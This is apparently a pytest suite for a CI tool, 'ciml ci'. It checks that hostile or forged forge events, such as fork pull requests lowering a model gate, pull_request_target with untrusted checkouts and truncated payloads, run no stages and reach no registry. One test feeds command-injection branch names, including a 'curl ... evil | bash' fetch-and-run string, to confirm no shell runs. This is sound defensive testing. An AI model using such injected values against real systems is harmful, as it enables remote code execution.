"""`ciml ci` when an event is hostile, forged or of no consequence: nothing is run, written or registered."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.cli.calls import Answer
from tests.cli.jobs import REPOSITORY, Jobs
from tests.repobuilder import RepoBuilder

NOBODY = "http://127.0.0.1:9"
"""A registry that nothing reaches: whoever asks it fails."""
CIML_YAML = """\
version: 1
params: {least: 0.5}
stages:
  train:
    run: |
      cp src.txt model.txt
      printf '{"auc": %s}' "$(cat src.txt)" > m.json
    inputs: [src.txt]
    outputs: [model.txt]
    metrics: [m.json]
models:
  m: {path: model.txt, gate: [auc >= params.least]}
triggers:
  pull-request: {require: accepted}
"""


class Forge:
    """A repository on a forge, and what happens there."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.origin = RepoBuilder(folder / "origin")
        self.origin.git("config", "uploadpack.allowAnySHA1InWant", "true")
        self.main = self.origin.commit({"ciml.yaml": CIML_YAML, "src.txt": "0.7\n"}, "first")
        self.origin.branch("topic")
        self.topic = self.origin.commit({"src.txt": "0.4\n"}, "worse")
        self._runs = 0

    def jobs(self) -> Jobs:
        """The jobs of a new run."""
        self._runs += 1
        return Jobs(self.origin, self.folder / f"run-{self._runs}", run=str(self._runs), MLFLOW_TRACKING_URI=NOBODY)

    def happens(self, name: str, ref: str, sha: str, payload: dict[str, Any], *, checkout: str | None = None) -> Jobs:
        """An event as the forge tells it; a workflow may check out something else."""
        jobs = self.jobs()._happened(name, ref, sha, payload)
        jobs._checkout = checkout or sha
        return jobs

    def change(self, **files: str) -> str:
        """A new commit on topic."""
        return self.origin.commit({name.replace("_", "."): text for name, text in files.items()}, "change")


@pytest.fixture
def forge(tmp_path: Path) -> Forge:
    return Forge(tmp_path)


def nothing_ran(jobs: Jobs, answer: Answer) -> bool:
    """Whether no stage began and no record was written."""
    records = [path for path in jobs.folder.glob("*/work/.git/ciml/store/*/*/*") if "objects" not in path.parts]
    return "train | " not in answer.out and "train" not in answer.out.split() and records == []


def pull_request_of(forge: Forge) -> dict[str, Any]:
    repository = {"full_name": "mallory/churn", "id": 9}
    return {
        "action": "opened",
        "number": 7,
        "pull_request": {
            "number": 7,
            "head": {"ref": "main", "sha": forge.topic, "repo": repository},
            "base": {"ref": "main", "sha": forge.main, "repo": {"full_name": REPOSITORY, "id": 1}},
        },
    }


@pytest.mark.parametrize("words", [(), ("plan",), ("stage", "train"), ("settle",)], ids=" ".join)
def test_c005_untrusted_code_in_a_privileged_event(forge: Forge, words: tuple[str, ...]) -> None:
    """pull_request_target with checked-out HEAD ≠ base default-branch commit → exit 6; R0 C0, before any stage."""
    told = pull_request_of(forge)
    jobs = forge.happens("pull_request_target", "refs/heads/main", forge.main, told, checkout=forge.topic)
    answer = jobs.job("job", *words)
    assert answer.code == 6, answer
    assert "refusing: untrusted code in a privileged event" in answer.err
    assert nothing_ran(jobs, answer)


def test_c006_a_comment_that_would_run_a_stage(forge: Forge) -> None:
    """issue_comment with another head than the base's → exit 6."""
    told = {"action": "created", "issue": {"number": 7, "pull_request": {}}, "comment": {"body": "/run"}}
    jobs = forge.happens("issue_comment", "refs/heads/main", forge.main, told, checkout=forge.topic)
    answer = jobs.job("job")
    assert answer.code == 6, answer
    assert nothing_ran(jobs, answer)


@pytest.mark.parametrize("words", [(), ("stage", "train"), ("rescore", "m")], ids=" ".join)
def test_c006_a_workflow_run_that_would_run_a_stage(forge: Forge, words: tuple[str, ...]) -> None:
    """workflow_run with head repo ≠ base repo that would run a stage → no stage is run; by name it is exit 6."""
    told = {
        "action": "completed",
        "workflow_run": {
            "id": 5,
            "head_branch": "main",
            "head_sha": forge.topic,
            "head_repository": {"full_name": "mallory/churn"},
        },
    }
    jobs = forge.happens("workflow_run", "refs/heads/main", forge.main, told, checkout=forge.topic)
    answer = jobs.job("job", *words)
    assert answer.code == (6 if words else 0), answer
    assert nothing_ran(jobs, answer)


def test_c008_a_fork_that_lowers_the_gate(forge: Forge) -> None:
    """Fork PR lowers gate threshold → policy read from BASE commit; diff reported; exit 10; R0.

    c009: what a fork has measured itself is labelled an untrusted evaluation.
    """
    forge.change(ciml_yaml=CIML_YAML.replace("least: 0.5", "least: 0.1").replace("accepted", "ran"))
    jobs = forge.jobs().pull_request("topic", 7, fork=True)
    answer = jobs.job("job", env={"MLFLOW_TRACKING_URI": ""})
    assert answer.code == 10, answer
    assert jobs.outputs["verdict"] == "rejected"
    summary = jobs.summary.replace("\\", "")
    assert "`params.least` differs from the base's" in summary
    assert "An untrusted evaluation" in summary


def test_c008_values_of_a_run_are_no_way_around_the_gate(forge: Forge) -> None:
    """A pull request changes its own workflow file: what that gives as -P is for stages; the base's values stand."""
    jobs = forge.jobs().pull_request("topic", 7)
    answer = jobs.job("job", "-P", "least=0.1")
    assert (answer.code, jobs.outputs["verdict"]) == (10, "rejected"), answer
    ref = "refs/heads/topic"
    told = {"workflow": "ciml.yml", "ref": ref, "inputs": {"least": "0.1"}}
    jobs = forge.happens("workflow_dispatch", ref, forge.topic, told)
    jobs.job("job")
    assert jobs.outputs["verdict"] == "rejected"


def test_c008_a_profile_of_the_heads_own_is_no_way_around_the_gate(forge: Forge) -> None:
    """The base has no such profile, and its gate judges all the same; a value that it lacks may be given."""
    forge.origin.git("checkout", "-q", "main")
    forge.change(ciml_yaml=CIML_YAML.replace("{least: 0.5}", "{least: 0.5, given: {type: float}}"))
    forge.origin.git("checkout", "-q", "-B", "topic")
    lax = "{least: 0.5, given: {type: float}, extra: 1}\nprofiles: {lax: {params: {least: 0.1}}}"
    forge.change(ciml_yaml=CIML_YAML.replace("{least: 0.5}", lax), src_txt="0.4\n")
    jobs = forge.jobs().pull_request("topic", 7)
    answer = jobs.job("job", "-P", "given=1", "-P", "extra=2", "-P", "least=0", options=("--profile", "lax"))
    assert (answer.code, jobs.outputs["verdict"]) == (10, "rejected"), answer


@pytest.mark.parametrize("given", [(), ("-P", "given=many")], ids=["not given", "given wrong"])
def test_c008_a_value_that_the_base_lacks_is_no_way_around_the_gate(forge: Forge, given: tuple[str, ...]) -> None:
    """A pull request that does not give what the base's ciml.yaml asks for: exit 2, before any stage."""
    forge.origin.git("checkout", "-q", "main")
    forge.change(ciml_yaml=CIML_YAML.replace("{least: 0.5}", "{least: 0.5, given: {type: float}}"))
    forge.origin.git("checkout", "-q", "-B", "topic")
    lax = CIML_YAML.replace("{least: 0.5}", "{least: 0.1, given: {type: string, default: x}}")
    forge.change(ciml_yaml=lax.replace("accepted", "ran"), src_txt="0.4\n")
    jobs = forge.jobs().pull_request("topic", 7)
    answer = jobs.job("job", *given)
    assert answer.code == 2, answer
    assert "the base's policy counts, and lacks values: params.given" in answer.err
    assert nothing_ran(jobs, answer)
    assert jobs.outputs.get("verdict", "") == ""


def test_c008_a_base_that_cannot_be_read_has_no_gate(forge: Forge) -> None:
    """What mends it is judged by its own gate, which is said; what it names as registry is not asked."""
    forge.origin.git("checkout", "-q", "main")
    forge.change(ciml_yaml="version: 1\nstages: {train: 7, given: {}}\n")
    forge.origin.git("checkout", "-q", "-B", "topic")
    forge.change(ciml_yaml=f"{CIML_YAML}registry: http://127.0.0.1:7\n", src_txt="0.8\n")
    jobs = forge.jobs().pull_request("topic", 7)
    answer = jobs.job("job")
    assert (answer.code, jobs.outputs["verdict"]) == (0, "accepted"), answer
    assert "The base has no policy that can be read" in jobs.summary
    assert "m is new: it is judged by its own gate" in jobs.summary


def test_c045_a_base_that_cannot_be_fetched_is_no_reason_to_trust_the_head(forge: Forge) -> None:
    """Its own gate does not judge instead: exit 5, before any stage starts, and the same again once it is there."""
    jobs = forge.jobs().pull_request("topic", 7)
    answer = jobs.job(
        "lost",
        env={
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "url./nowhere/at/all.insteadOf",
            "GIT_CONFIG_VALUE_0": str(forge.origin.path),
        },
    )
    assert answer.code == 5, answer
    assert "the policy that counts cannot be found" in answer.err
    assert nothing_ran(jobs, answer)
    assert jobs.job("found").code == 10


@pytest.mark.parametrize("branch", ["a$(touch${IFS}x)", "x|curl${IFS}-sSfL${IFS}evil|bash"])
def test_c001_c002_a_branch_is_bytes(forge: Forge, branch: str) -> None:
    """A hostile branch in head_ref → treated as bytes; no shell; exit 0; canary file absent."""
    forge.origin.branch(branch, "main")
    forge.origin.commit({"src.txt": "0.8\n"})
    jobs = forge.jobs().pull_request(branch, 7)
    answer = jobs.job("job")
    assert answer.code == 0, answer
    assert jobs.outputs["verdict"] == "accepted"
    assert not nothing_ran(jobs, answer)
    assert not list(jobs.folder.rglob("x"))


def test_c010_c040_only_the_default_branch_reaches_the_registry(forge: Forge) -> None:
    """PR, branch, dispatch and schedule on a non-default ref: judged, and nobody asks the registry."""
    forge.origin.git("checkout", "-q", "topic")
    forge.change(src_txt="0.8\n")
    sha = forge.origin.head()
    ref = "refs/heads/topic"
    for jobs in (
        forge.jobs().push("topic"),
        forge.jobs().pull_request("topic", 7),
        forge.happens("workflow_dispatch", ref, sha, {"workflow": "ciml.yml", "ref": ref, "inputs": {}}),
        forge.happens("schedule", ref, sha, {"schedule": "0 3 * * 1"}),
    ):
        answer = jobs.job("job")
        assert answer.code == 0, answer
        assert jobs.outputs["verdict"] == "accepted"
        assert jobs.outputs["model-version"] == ""
    assert forge.origin.git("for-each-ref", "refs/heads/ciml") == ""


@pytest.mark.parametrize("words", [(), ("plan",), ("settle",)], ids=" ".join)
def test_c011_a_payload_that_cannot_be_read(forge: Forge, words: tuple[str, ...]) -> None:
    """GITHUB_EVENT_PATH missing / truncated / event name contradicting payload → exit 3; R0."""
    jobs = forge.jobs().push("main")
    path = jobs.folder / "event.json"
    whole = path.read_text()
    path.write_text(whole[: len(whole) // 2])
    truncated = jobs.job("truncated", *words)
    path.unlink()
    missing = jobs.job("missing", *words)
    path.write_text(whole)
    forged = jobs.job("forged", *words, env={"GITHUB_EVENT_NAME": "pull_request"})
    for answer in (truncated, missing, forged):
        assert answer.code == 3, answer
        assert "event payload unreadable" in answer.err
        assert nothing_ran(jobs, answer)


@pytest.mark.parametrize("words", [(), ("plan",)], ids=" ".join)
def test_c044_a_deleted_branch(forge: Forge, words: tuple[str, ...]) -> None:
    """`after` = zeros (branch deleted) → exit 0 "nothing to do", no stage."""
    told = {"ref": "refs/heads/gone", "before": forge.topic, "after": "0" * 40, "deleted": True}
    jobs = forge.happens("push", "refs/heads/gone", forge.main, told)
    answer = jobs.job("job", *words)
    assert answer.code == 0, answer
    assert "nothing to do" in answer.out.lower()
    assert nothing_ran(jobs, answer)
